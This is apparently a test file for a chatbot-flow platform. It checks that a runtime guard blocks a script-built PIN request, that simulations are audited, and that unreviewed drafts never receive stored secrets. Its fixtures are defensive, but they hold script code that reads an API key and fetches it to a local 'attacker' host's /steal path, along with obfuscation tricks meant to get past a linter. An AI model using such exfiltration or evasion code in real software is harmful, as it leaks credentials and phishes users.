import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { jsonb } from "@benteng/db";
import { createMember } from "@benteng/db/queries/users";
import { BLOCKED_FALLBACK_TEXT } from "@benteng/runtime";
import { emptyFlow, type Flow, lintFlow } from "@benteng/shared";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashPassword } from "../../auth/password.ts";
import { setUpAdmin } from "../../testing/securityTestKit.ts";
import { createTestApp, sessionCookie, type TestApp } from "../../testing/testApp.ts";

/** A flow whose message is harmless as written and only asks for a PIN once a script fills it in. */
function sneakyFlow(): Flow {
  const flow = emptyFlow();
  flow.settings.safetyNotice = false;
  flow.variables.push({ name: "reply", type: "text" });
  flow.nodes.push(
    {
      id: "scr",
      type: "script",
      position: { x: 300, y: 0 },
      data: {
        // The linter folds joins and character codes of literals (scriptSecretRequest), so the word is
        // built by a callback it does not run: only the runtime guard can see the request.
        code: 'const word = [80, 73, 78].map((c) => String.fromCharCode(c)).join("");\nreturn { text: "Please reply with your " + word + " to continue" };',
        inputMapping: [],
        inputSchema: [],
        outputSchema: [{ name: "text", type: "string", required: true }],
        outputMapping: [{ field: "text", variable: "reply" }],
        allowedHosts: [],
        secrets: [],
        timeoutMs: 1000,
        memoryMb: 32,
      },
    },
    { id: "say", type: "message", position: { x: 600, y: 0 }, data: { text: "{{reply}}" } },
    { id: "oops", type: "message", position: { x: 600, y: 200 }, data: { text: "Something went wrong." } },
    { id: "end", type: "end", position: { x: 900, y: 0 }, data: {} },
  );
  flow.edges.push(
    { id: "e1", source: "start", sourceHandle: "next", target: "scr" },
    { id: "e2", source: "scr", sourceHandle: "success", target: "say" },
    { id: "e3", source: "scr", sourceHandle: "error", target: "oops" },
    { id: "e4", source: "say", sourceHandle: "next", target: "end" },
    { id: "e5", source: "oops", sourceHandle: "next", target: "end" },
  );
  return flow;
}

describe("simulator and the runtime guard", () => {
  let t: TestApp;
  let cookie: string;
  beforeAll(async () => {
    t = await createTestApp();
    cookie = await setUpAdmin(t, "a@example.com");
  });
  afterAll(() => t.close());

  it("withholds a message that only becomes a PIN request after a script fills a variable, and records it", async () => {
    const flow = sneakyFlow();
    // Statically the flow is clean: the request does not exist until the script runs.
    expect(lintFlow(flow).filter((f) => f.severity === "error")).toEqual([]);
    const created = (await t.call("flows.create", { name: "Sneaky", draft: flow }, { cookie })).json().result
      .data;
    const res = await t.call(
      "simulator.step",
      { flowId: created.id, state: null, event: { text: "hi" } },
      { cookie },
    );
    const step = res.json().result.data;
    const bodies = step.outbound.map((o: { message: { body: string } }) => o.message.body);
    expect(bodies).toEqual([BLOCKED_FALLBACK_TEXT]);
    expect(JSON.stringify(step.outbound)).not.toMatch(/reply with your PIN/);
    expect(step.logs.join("\n")).toMatch(/blocked/);
    await expect
      .poll(
        async () =>
          (
            await t.db
              .selectFrom("audit_log")
              .select("action")
              .where("action", "=", "runtime.guard_blocked")
              .execute()
          ).length,
      )
      .toBe(1);
  });

  it("audits a simulation that runs script code before it runs, naming the code, never what was typed", async () => {
    const created = (
      await t.call("flows.create", { name: "Audited run", draft: sneakyFlow() }, { cookie })
    ).json().result.data;
    const typed = "my secret sample 7731";
    const res = await t.call(
      "simulator.step",
      { flowId: created.id, state: null, event: { text: typed } },
      { cookie, ip: "198.51.100.7" },
    );
    expect(res.statusCode).toBe(200);
    const rows = await t.db
      .selectFrom("audit_log")
      .select(["id", "target", "details"])
      .where("action", "=", "simulator.step")
      .where("target", "=", created.id)
      .execute();
    expect(rows).toHaveLength(1);
    expect(rows[0]?.details).toMatchObject({
      flowId: created.id,
      scripts: [{ blockId: "scr", codeHash: expect.stringMatching(/^[0-9a-f]{64}$/), allowedHosts: [] }],
      session: expect.stringMatching(/^[0-9a-f]{8}$/),
      ip: "198.51.100.7",
    });
    expect(JSON.stringify(rows.map((r) => [r.target, r.details]))).not.toContain(typed);
    // Recorded before the code ran: the guard's row the run caused comes after it.
    await expect
      .poll(
        async () =>
          (
            await t.db
              .selectFrom("audit_log")
              .select("id")
              .where("action", "=", "runtime.guard_blocked")
              .where("id", ">", rows[0]?.id ?? "0")
              .execute()
          ).length,
      )
      .toBe(1);
    // A flow without scripts runs no code: nothing to audit.
    const plain = (await t.call("flows.create", { name: "Plain" }, { cookie })).json().result.data;
    await t.call("simulator.step", { flowId: plain.id, state: null, event: { text: "hi" } }, { cookie });
    expect(
      await t.db
        .selectFrom("audit_log")
        .select("id")
        .where("action", "=", "simulator.step")
        .where("target", "=", plain.id)
        .execute(),
    ).toHaveLength(0);
  });

  it("audits a reviewer's simulation of a version with scripts the same way", async () => {
    const created = (
      await t.call("flows.create", { name: "Version run", draft: sneakyFlow() }, { cookie })
    ).json().result.data;
    const version = (await t.call("versions.submit", { flowId: created.id }, { cookie })).json().result.data;
    // This admin also reviews (the role is given here directly; members.setRoles is tested elsewhere).
    await t.db
      .updateTable("memberships")
      .set({ roles: jsonb(["admin", "developer", "reviewer"]) })
      .where("workspace_id", "=", t.workspaceId)
      .execute();
    const res = await t.call(
      "simulator.stepVersion",
      { versionId: version.id, state: null, event: { text: "typed by the reviewer" } },
      { cookie },
    );
    expect(res.statusCode, res.body).toBe(200);
    const rows = await t.db
      .selectFrom("audit_log")
      .select(["target", "target_label", "details"])
      .where("action", "=", "simulator.step_version")
      .execute();
    expect(rows).toMatchObject([
      { target: version.id, target_label: "Version run v1", details: { versionId: version.id, number: 1 } },
    ]);
    expect(JSON.stringify(rows)).not.toContain("typed by the reviewer");
  });

  it("marks a message WhatsApp would refuse with the limit findings instead of passing it as sent", async () => {
    const flow = emptyFlow();
    flow.nodes.push({
      id: "menu",
      type: "buttons",
      position: { x: 300, y: 0 },
      data: {
        body: "x".repeat(1030),
        buttons: ["a", "b", "c", "d"].map((id) => ({ id, title: id === "a" ? "t".repeat(26) : id })),
      },
    });
    flow.edges.push({ id: "e1", source: "start", sourceHandle: "next", target: "menu" });
    const created = (await t.call("flows.create", { name: "Too much", draft: flow }, { cookie })).json()
      .result.data;
    const step = (
      await t.call("simulator.step", { flowId: created.id, state: null, event: { text: "hi" } }, { cookie })
    ).json().result.data;
    const menu = step.outbound.find((o: { blockId: string }) => o.blockId === "menu");
    expect(menu.refused).toEqual([
      expect.stringMatching(/^Body is 1030 characters long/),
      expect.stringMatching(/^Button 1 title is 26 characters long/),
      expect.stringMatching(/^This block has 4 buttons/),
    ]);
  });

  it("runs only the saved draft of a flow in the caller's workspace", async () => {
    const res = await t.call(
      "simulator.step",
      { flowId: "00000000-0000-4000-8000-000000000000", state: null, event: { text: "hi" } },
      { cookie },
    );
    expect(res.statusCode).toBe(404);
    expect(
      (
        await t.call("simulator.step", {
          flowId: "00000000-0000-4000-8000-000000000000",
          state: null,
          event: { text: "hi" },
        })
      ).statusCode,
    ).toBe(401);
  });
});

/** A host nobody reviewed, recording what reaches it. */
async function startAttackerHost() {
  const seen: string[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(`${req.url} ${JSON.stringify(req.headers)}`);
    res.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    host: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** A developer's unreviewed draft that sends its secret to a host and shows it to whoever tries it. */
function exfiltratingFlow(host: string): Flow {
  const flow = emptyFlow();
  flow.settings.safetyNotice = false;
  flow.variables.push({ name: "shown", type: "text" });
  flow.nodes.push(
    {
      id: "scr",
      type: "script",
      position: { x: 300, y: 0 },
      data: {
        code: `const k = secrets.get('API_KEY');
const r = [...k].reverse().join('');
await fetch('http://${host}/steal?k=' + encodeURIComponent(k) + '&r=' + r, { headers: { 'x-api-key': k } });
console.log(k);
return { shown: r + ' ' + [...k].map((c) => c.charCodeAt(0)).join(',') };`,
        inputMapping: [],
        inputSchema: [],
        outputSchema: [{ name: "shown", type: "string", required: true }],
        outputMapping: [{ field: "shown", variable: "shown" }],
        allowedHosts: [host],
        secrets: ["API_KEY"],
        timeoutMs: 3000,
        memoryMb: 32,
      },
    },
    { id: "say", type: "message", position: { x: 600, y: 0 }, data: { text: "got {{shown}}" } },
    {
      id: "oops",
      type: "message",
      position: { x: 600, y: 200 },
      data: { text: "failed {{lastScriptError}}" },
    },
    { id: "end", type: "end", position: { x: 900, y: 0 }, data: {} },
  );
  flow.edges.push(
    { id: "e1", source: "start", sourceHandle: "next", target: "scr" },
    { id: "e2", source: "scr", sourceHandle: "success", target: "say" },
    { id: "e3", source: "scr", sourceHandle: "error", target: "oops" },
    { id: "e4", source: "say", sourceHandle: "next", target: "end" },
    { id: "e5", source: "oops", sourceHandle: "next", target: "end" },
  );
  return flow;
}

describe("the simulator never hands stored secrets to an unreviewed draft", () => {
  const REAL = "real-key-9f8e7d";
  const reversed = [...REAL].reverse().join("");
  const codes = [...REAL].map((c) => c.charCodeAt(0)).join(",");
  let t: TestApp;
  let developer: string;
  let marketer: string;
  let attacker: Awaited<ReturnType<typeof startAttackerHost>>;
  let flowId: string;
  beforeAll(async () => {
    t = await createTestApp({ BENTENG_SANDBOX_ALLOW_LOOPBACK: "1" });
    attacker = await startAttackerHost();
    developer = await setUpAdmin(t, "dev@example.com");
    await createMember(t.db, {
      workspaceId: t.workspaceId,
      email: "marketer@example.com",
      displayName: "Mia",
      passwordHash: await hashPassword("another long password"),
      roles: ["marketer"],
    });
    marketer = sessionCookie(
      await t.call("auth.login", { email: "marketer@example.com", password: "another long password" }),
    );
    expect(
      (await t.call("secrets.set", { name: "API_KEY", value: REAL }, { cookie: developer })).statusCode,
    ).toBe(200);
    flowId = (
      await t.call(
        "flows.create",
        { name: "Draft", draft: exfiltratingFlow(attacker.host) },
        { cookie: developer },
      )
    ).json().result.data.id;
  });
  afterAll(async () => {
    await attacker?.close();
    await t?.close();
  });

  const tryIt = async (cookie: string) => {
    const before = attacker.seen.length;
    const res = await t.call("simulator.step", { flowId, state: null, event: { text: "hi" } }, { cookie });
    expect(res.statusCode).toBe(200);
    for (const text of [res.body, ...attacker.seen]) {
      expect(text).not.toContain(REAL);
      expect(text).not.toContain(reversed);
      expect(text).not.toContain(codes);
    }
    // The draft ran for real: its host got a request, carrying only the stand-in.
    expect(attacker.seen.length).toBe(before + 1);
    expect(attacker.seen.at(-1)).toContain("test-value-of-API_KEY");
    const bodies = res.json().result.data.outbound.map((o: { message: { body: string } }) => o.message.body);
    expect(bodies[0]).toContain([..."test-value-of-API_KEY"].reverse().join(""));
  };

  it("a developer's simulation of a draft that fetches an unreviewed host sends only a stand-in", async () => {
    await tryIt(developer);
  });

  it("a marketer pressing Try it on a developer's draft gets no stored secret either", async () => {
    await tryIt(marketer);
  });
});
